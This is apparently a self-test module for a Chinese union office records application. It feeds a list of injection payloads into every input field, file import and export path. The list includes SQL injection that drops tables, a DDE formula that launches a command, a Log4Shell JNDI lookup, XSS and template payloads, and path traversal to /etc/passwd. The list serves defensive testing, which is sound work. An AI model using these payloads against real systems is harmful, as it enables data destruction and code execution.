"""What attackers and careless people type or send in: stored as it is, tidied as the house tidies, or refused."""

from __future__ import annotations

import csv
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing
from dataclasses import dataclass
from datetime import date
from functools import partial
from pathlib import Path
from typing import Any

import openpyxl

from unionoffice.app import App
from unionoffice.kernel.progress import Progress, step
from unionoffice.models.base import Record
from unionoffice.models.fields import Kind
from unionoffice.models.household import FamilyMember
from unionoffice.models.member import Member
from unionoffice.models.organisation import Unit, UnitKind
from unionoffice.models.register import Register
from unionoffice.models.registers import all_registers
from unionoffice.models.user import User
from unionoffice.models.welfare import Batch, Line, Programme
from unionoffice.selftest.attempts import Outcome, attempt
from unionoffice.selftest.offices import ACTOR, CHAIR, HEADINGS, NOW, QUIET, Office, contents, problems
from unionoffice.selftest.report import Row
from unionoffice.services.members import MemberQuery
from unionoffice.services.registers import ListQuery
from unionoffice.services.welfare import LineQuery

TYPED = (
    "'; DROP TABLE member; --",
    '" OR 1=1 --',
    "%' OR '1'='1",
    "') UNION SELECT name FROM sqlite_master --",
    "_%_",
    "\\",
    "'",
    '"',
    "`",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://example.org","点这里")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    "{0}{name!r}{{}}",
    "%s%n%x%(name)s",
    "${jndi:ldap://example.org/a}",
    "{{7*7}}<%= 7*7 %>",
    "<script>alert(1)</script>",
    "<b>粗</b><br/><para>&amp;&#65;&lt;",
    "]]></c><x>",
    "前\x00后",
    "前\x07\x1b[31m后",
    "一行\r\n两行\u2028三行",
    "\u202e倒过来\u202c",
    "零\u200b宽\ufeff字\u2060符",
    "e\u0301 ﬁ Å",
    "𠮷䶮\U0002f8a5",
    "半\ud800个",
    "\uffff\ufdd0",
    "../../../etc/passwd",
    "C:\\Windows\\system32",
    "CON",
    "NULL",
    "None",
    "１２３",
    "1e309",
    "-0",
    "名" * 300,
    "长" * 5000,
    "a" * 40000,
    "🀄👨\u200d👩\u200d👧",
)
"""SQL, formulas, format strings, markup, control characters, directions, zero width, halves of characters, paths, and
what is too long."""

_OURS = {Kind.TEXT, Kind.NOTE}


@dataclass(frozen=True, slots=True)
class Entrance:
    """One field that somebody can type into: `enter` gives the record's id, `kept` what was stored."""

    title: str
    kind: Kind
    enter: Callable[[App, str], str]
    kept: Callable[[App, str], Any]


def run(office: Office, folder: Path, progress: Progress, *, typed: Sequence[str] = TYPED) -> list[Row]:
    """Type everything into every field, take it in from files, and use what came of it."""
    copy = office.copied(folder / "typed")
    with closing(copy.app()) as app:
        step(progress, 0, 3, "正在逐栏录入注入内容")
        before = _untouched(copy)
        rows = [_typed(app, copy, typed, before)]
        step(progress, 1, 3, "正在导入注入内容")
        rows.append(_imported(app, folder, typed))
        step(progress, 2, 3, "正在使用注入内容")
        rows.append(_used(app, folder, typed))
    wrong = problems(copy.path, copy.login)
    rows.append(Row("攻击", "注入之后 check", 1, len(wrong), "完好" if not wrong else "有问题", tuple(wrong[:3])))
    return rows


# -- typing ------------------------------------------------------------------------------------------------------------


def _typed(app: App, office: Office, typed: Sequence[str], before: dict[str, Any]) -> Row:
    wrong: list[str] = []
    same = tidied = refused = rounds = 0
    for entrance in _entrances(app, office):
        for text in typed:
            rounds += 1
            found = attempt(entrance.enter, app, text)
            if found.refused:
                refused += 1
                if not found.sentence.rstrip("”）").endswith(("。", "？")):
                    wrong.append(f"{entrance.title}：不是一句话：{found.sentence[:80]}")
                continue
            if found.bug:
                wrong.append(f"{entrance.title}：{text[:20]!r}：{found.bug}")
                continue
            kept = entrance.kept(app, found.value)
            how = _compared(text, kept, entrance.kind)
            same, tidied = same + (how == "same"), tidied + (how == "tidied")
            if how == "other":
                wrong.append(f"{entrance.title}：录入 {text[:20]!r}，存成 {str(kept)[:20]!r}")
        if _untouched(office) != before:
            wrong.append(f"{entrance.title}：别的记录被改动了")
            before = _untouched(office)
    seen = f"原样 {same:,}，按规矩整理 {tidied:,}，一句话拒绝 {refused:,}；别的记录没有变"
    return Row("攻击", "往每一栏录入注入内容", rounds, len(wrong), seen, tuple(dict.fromkeys(wrong))[:8])


def _compared(text: str, kept: Any, kind: Kind) -> str:
    """Whether what was stored is what was typed: the same, tidied, or something else."""
    if kept == text:
        return "same"
    if kind not in _OURS:
        return "tidied" if kept is None or isinstance(kept, (int, date, str)) else "other"
    return "tidied" if _skeleton(text) == _skeleton(kept or "") else "other"


def _skeleton(text: str) -> str:
    """What is left when everything that cannot be seen, and every difference of width or case, is taken away."""
    whole = text.encode("utf-16", "ignore").decode("utf-16")
    plain = unicodedata.normalize("NFKC", whole).casefold()
    seen = (each for each in plain if unicodedata.category(each)[0] not in "CZ")
    return "".join(seen).strip("'`‘’\"“”=＝.·") if plain else ""


def _entrances(app: App, office: Office) -> Iterator[Entrance]:
    """Every field that is typed into: members, families, units, registers, programmes, batches, lines and reasons."""
    yield from _of(Member, lambda app, values: app.members.create({"name": "林晓", **values}, ACTOR)[0])
    host = app.members.create({"name": "林主人"}, ACTOR)[0]

    def relative(app: App, values: dict[str, Any]) -> str:
        changes = app.members.save_relative(host, {"name": "林亲", "kinship": "10", **values}, ACTOR)
        return next(iter(changes.ids(FamilyMember.type_name)))

    yield from _of(FamilyMember, relative)
    for register in all_registers():
        yield from _of(register.model, partial(_in_register, register))
    yield from _of(
        Programme,
        lambda app, values: app.welfare.save_programme({"name": "项目", "kind": "festival", **values}, ACTOR)[0],
    )
    programme = app.welfare.programmes()[0].id
    counter = iter(range(10**6))

    def batch(app: App, values: dict[str, Any]) -> str:
        blank = {"programme_id": programme, "name": f"批次{next(counter)}", "kind": "festival", "item": "米"}
        more = {"payment": "goods", "quantity": 1, "unit_price": "10", "budget": "100", "roll_date": NOW.date()}
        return app.welfare.create_batch({**blank, **more, **values}, ACTOR)[0]

    yield from _of(Batch, batch, without=("programme_id",))
    root = app.organisation.tree()[0].id
    yield Entrance(
        "组织·名称",
        Kind.TEXT,
        lambda app, text: app.organisation.add_unit(root, text, UnitKind.BRANCH, ACTOR)[0],
        partial(_kept, model=Unit, name="name"),
    )
    yield from _with_reasons(app, office)


_ORDINARY = {
    **dict.fromkeys(Kind, "甲"),
    Kind.DATE: NOW.date(),
    Kind.PARTIAL_DATE: "2020-01",
    Kind.INTEGER: 1,
    Kind.MONEY: "1",
    Kind.FLAG: True,
    Kind.PHONE: "13800000000",
}


def _in_register(register: Register, app: App, values: dict[str, Any]) -> str:
    """A record with something in every field that must have it."""
    blank: dict[str, Any] = {}
    for name, facts in register.model.fields().items():
        if facts.required and not facts.internal and facts.kind is not Kind.STATE:
            blank[name] = _ORDINARY[facts.kind] if facts.choices is None else next(iter(facts.choices.labels()))
    return app.registers.create(register, {**blank, **values}, ACTOR)[0]


def _with_reasons(app: App, office: Office) -> Iterator[Entrance]:
    lines = iter(app.welfare.lines(LineQuery(office.approved_id), limit=500))
    member = app.members.ids(MemberQuery())[0]

    def proxy(app: App, text: str) -> str:
        line = next(lines)
        app.welfare.collect(line.id, ACTOR, proxy=text, relation="同事")
        return line.id

    def decide(app: App, text: str) -> str:
        app.welfare.decide(office.draft_id, member, include=False, reason=text, actor=ACTOR)
        return office.draft_id

    yield Entrance("领取·代领人", Kind.TEXT, proxy, partial(_kept, model=Line, name="proxy"))
    yield Entrance(
        "名单调整·理由",
        Kind.NOTE,
        decide,
        lambda app, batch_id: _decision(app, batch_id, member),
    )


def _decision(app: App, batch_id: str, member_id: str) -> str:
    left_out = app.welfare.draft(batch_id).left_out
    return next(each.reason for each in left_out if each.member_id == member_id).removeprefix("按决定不列入：")


def _of(
    model: type[Record], make: Callable[[App, dict[str, Any]], str], *, without: Sequence[str] = ()
) -> Iterator[Entrance]:
    for name, facts in model.fields().items():
        if facts.internal or name in without or facts.kind is Kind.STATE:
            continue
        yield Entrance(
            f"{model.title}·{facts.label}",
            facts.kind,
            partial(_entered, make, name),
            partial(_kept, model=model, name=name),
        )


def _entered(make: Callable[[App, dict[str, Any]], str], name: str, app: App, text: str) -> str:
    return make(app, {name: text})


def _kept(app: App, record_id: str, *, model: type[Record], name: str) -> Any:
    with app.store.reading() as session:
        return getattr(session.get_one(model, record_id), name)


def _untouched(office: Office) -> dict[str, Any]:
    """What nobody typed into: the tables there are, and everybody who was there from the start."""
    found = contents(office.path, office.key)
    first = [row for row in found["member"] if "王" in row and "'61080119" in row]
    return {"tables": sorted(found), "members": first, "office": found["office"], "users": found[User.__tablename__]}


# -- taking in and using -----------------------------------------------------------------------------------------------


def _imported(app: App, folder: Path, typed: Sequence[str]) -> Row:
    """The same from files: text and formulas in a workbook, and text in a CSV file."""
    wrong: list[str] = []
    rows = [[*row] for row in _rows(typed)]
    book = openpyxl.Workbook()
    book.active.append(HEADINGS)
    for row in rows:
        if all(openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.search(cell) is None and _text(cell) for cell in row):
            book.active.append([cell[:32000] for cell in row])
            for cell in book.active[book.active.max_row]:
                cell.data_type = "s"
            book.active.append([cell[:32000] for cell in row])  # as the formulas they look like
    book.save(folder / "注入.xlsx")
    with (folder / "注入.csv").open("w", encoding="utf-8-sig", errors="ignore", newline="") as file:
        csv.writer(file).writerows([HEADINGS, *([cell.replace("\x00", "") for cell in row] for row in rows)])
    counts = []
    for name in ("注入.xlsx", "注入.csv"):
        found: Outcome = attempt(app.imports.run, [folder / name], ACTOR, QUIET)
        if found.bug:
            wrong.append(f"{name}：{found.bug}")
        elif found.refused:
            counts.append(f"{name} 整份拒绝（{found.sentence}）")
        else:
            told = found.value.counts
            counts.append(f"{name} 读 {told.read} 行，新增 {told.new}，拒绝 {told.refused}")
    return Row("攻击", "导入注入内容", 2 * len(rows), len(wrong), "；".join(counts), tuple(wrong[:3]))


def _rows(typed: Sequence[str]) -> Iterator[list[str]]:
    for at, text in enumerate(typed):
        for column in range(len(HEADINGS)):
            row = [f"林入{at}", "", "", f"Z{at}-{column}", "分会0", "2015-03-01"]
            row[column] = text
            yield row


def _text(cell: str) -> bool:
    return not any("\ud800" <= each <= "\udfff" or each in "\uffff\ufffe" for each in cell)


def _used(app: App, folder: Path, typed: Sequence[str]) -> Row:
    """Search, sort, filter, export, print and history of what came in."""
    wrong: list[str] = []
    rounds = 0

    def use(what: str, act: Callable[..., Any], *arguments: Any, **named: Any) -> Any:
        nonlocal rounds
        rounds += 1
        found = attempt(act, *arguments, **named)
        if found.bug:
            wrong.append(f"{what}：{found.bug}")
        return found.value

    registers = all_registers()
    for text in typed:
        use("查找", app.members.search, text)
        use("筛选", app.members.count, MemberQuery(text=text))
        for register in registers:
            use("台账查找", app.registers.rows, register, ListQuery(text=text))
        use("名单查找", app.welfare.lines, LineQuery("x", text))
        use("认人", app.organisation.named, text)
    for name in Member.fields():
        use("排序", app.members.rows, (name,), MemberQuery(sort=name), limit=1000)
    cells = 0
    use("导出会员", app.exports.members, folder / "会员.xlsx", MemberQuery(), QUIET)
    for register in registers:
        target = folder / f"{register.name}.xlsx"
        use(
            "导出台账",
            app.exports.register,
            register,
            ListQuery(),
            target,
            progress=QUIET,
        )
    for path in folder.glob("*.xlsx"):
        if path.name == "注入.xlsx":
            continue
        for row in openpyxl.load_workbook(path).active.iter_rows():
            for cell in row:
                cells += 1
                if cell.data_type == "f":
                    wrong.append(f"导出的单元格成了公式：{str(cell.value)[:40]}")
    _print_and_history(app, folder, use)
    seen = f"查找、筛选、排序、导出、打印、历史都没有出错；读回 {cells:,} 个单元格，没有一个公式"
    return Row("攻击", "使用注入内容", rounds, len(wrong), seen, tuple(dict.fromkeys(wrong))[:5])


def _print_and_history(app: App, folder: Path, use: Callable[..., Any]) -> None:
    for register in all_registers():
        for row in app.registers.rows(register, ListQuery(), limit=2000):
            use("历史", _told, app.registers.history, register, row[0])
        some = app.registers.rows(register, ListQuery(), limit=60)
        for row in some:
            use("打印台账", app.papers.record_sheet_pdf, register, row[0])
    for member_id in app.members.ids(MemberQuery()):
        use("历史", _told, app.members.history, member_id)
    batch = next((each for each in app.welfare.batches() if each.name == "春节慰问"), None)
    if batch is None:
        return
    odd = next((each for each in app.welfare.batches() if "<" in each.name and each.state == "draft"), None)
    printed = [batch.id]
    if odd is not None and use("审批注入批次", app.welfare.approve, odd.id, CHAIR) is not None:
        printed.append(odd.id)
    for batch_id in printed:
        for suffix in (".pdf", ".xlsx"):
            target = folder / f"签领表-{batch_id[-6:]}{suffix}"
            use("打印签领表", app.papers.save_sign_sheet, batch_id, target, QUIET)


def _told(history: Callable[..., Sequence[Any]], *arguments: Any) -> int:
    return sum(len(item.told()) for item in history(*arguments))
